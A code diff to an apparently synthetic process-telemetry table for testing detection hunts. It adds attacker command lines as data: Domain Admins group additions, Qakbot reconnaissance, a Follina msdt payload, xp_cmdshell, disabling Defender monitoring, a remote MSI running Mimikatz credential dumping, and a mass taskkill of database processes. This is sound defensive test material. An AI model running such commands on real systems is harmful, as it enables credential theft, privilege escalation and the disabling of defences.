@@ -31,7 +31,15 @@ pub const STEPS: &[Step] = &[
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net user art-test P@ssw0rd1 /add"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net localgroup administrators art-test /add"#),
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Backup Operators" art-test /add /domain"#),
+    // Two more sensitive groups within the hour: the burst a group-addition hunt counts.
+    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Domain Admins" art-test /add /domain"#),
+    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Account Operators" art-test /add /domain"#),
+    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net localgroup art-group /add"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net time"),
+    // Qakbot's reconnaissance as Microsoft documented it, from one command shell.
+    ("cmd.exe", "cmd.exe", "powershell.exe", "whoami.exe", "whoami /all"),
+    ("cmd.exe", "cmd.exe", "powershell.exe", "NETSTAT.EXE", "netstat -nao"),
+    ("cmd.exe", "cmd.exe", "powershell.exe", "nslookup.exe", "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.com"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net stop dnscache"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net start dnscache"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "ARP.EXE", "arp -a"),
@@ -126,6 +134,20 @@ pub const STEPS: &[Step] = &[
     ("cmd.exe", r"cmd.exe /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > art.exe", "explorer.exe", "PING.EXE", "ping.exe -n 6 127.0.0.1"),
     ("cmd.exe", "cmd.exe", "powershell.exe", "cmd.exe", "cmd.exe /c start microsoft-edge:http://203.0.113.77/webdav/art.url"),
     ("svchost.exe", "svchost.exe -k WerSvcGroup", "services.exe", "WerFault.exe", "WerFault.exe -u -p 8812 -s 412"),
+    // Qakbot's macro loads its DLL with a relative path (documented), replayed from the test workbook.
+    ("EXCEL.EXE", r#""EXCEL.EXE" C:\AtomicRedTeam\atomics\T1204.002\bin\macro.xlsm"#, "explorer.exe", "regsvr32.exe", r"regsvr32.exe -s ..\Celod.wac"),
+    // CVE-2022-30190 (Follina): a document makes Word start the support diagnostic tool.
+    ("WINWORD.EXE", r#""WINWORD.EXE" /n C:\AtomicRedTeam\atomics\T1203\bin\follina.docx"#, "explorer.exe", "msdt.exe", r#"msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=/../../$(calc)/../../../../../../Windows/System32/mpsigstub.exe""#),
+    // T1505.001: xp_cmdshell on the lab's SQL Express instance.
+    ("sqlservr.exe", r#""C:\Program Files\Microsoft SQL Server\MSSQL16.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS"#, "services.exe", "cmd.exe", "cmd.exe /c whoami & systeminfo"),
+    // T1518.001: what Defender is set to exclude and monitor.
+    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Get-MpPreference | Select-Object Exclusion*"),
+    // Set-MpPreference runs inside the PowerShell host; its console host is the child Defender sees.
+    ("powershell.exe", "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Windows\\Temp\\art -ExclusionProcess art.exe", "powershell.exe", "conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
+    // T1218.007: an MSI whose custom action runs Mimikatz.
+    ("msiexec.exe", "msiexec.exe /q /i http://lab-web01.contoso.com/art/T1218.007.msi return", "cmd.exe", "powershell.exe", "powershell.exe -nop -c Invoke-Mimikatz -Command \"privilege::debug sekurlsa::logonpasswords\""),
+    // T1489 as ransomware plays it: one taskkill for every database process.
+    ("cmd.exe", "cmd.exe", "powershell.exe", "taskkill.exe", "taskkill /F /IM sqlservr.exe /IM sqlbrowser.exe /IM sqlwriter.exe /IM sqlagent.exe /IM sqlceip.exe /IM msftesql.exe /IM mysqld.exe /IM mysqld-nt.exe /IM mysqld-opt.exe /IM sqlmangr.exe /IM sqlsqm.exe /IM postgres.exe /IM oracle.exe"),
 ];
 
 /// Bursts: the same program run on many targets within a minute or two.
@@ -199,6 +221,12 @@ const BURSTS: &[(&str, &str, &[&str])] = &[
             "Setup",
             "Windows PowerShell",
             "Microsoft-Windows-Sysmon/Operational",
+            "Microsoft-Windows-PowerShell/Operational",
+            "Microsoft-Windows-TaskScheduler/Operational",
+            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
+            "Microsoft-Windows-Windows Defender/Operational",
+            "Microsoft-Windows-WMI-Activity/Operational",
+            "Microsoft-Windows-Bits-Client/Operational",
         ],
     ),
 ];
@@ -248,7 +276,8 @@ impl Background<'_> {
         for (file, template, targets) in BURSTS {
             at += 10 * MINUTE;
             for (i, target) in targets.iter().enumerate() {
-                let when = at + i as i64 * 3 * TICKS_PER_SECOND;
+                // A script runs them back to back, about one a second.
+                let when = at + i as i64 * TICKS_PER_SECOND;
                 let pid = 30_000 + 8 * rows.len() as i64;
                 rows.push((
                     proc(file, &template.replace("{}", target), "cmd.exe", when, pid),
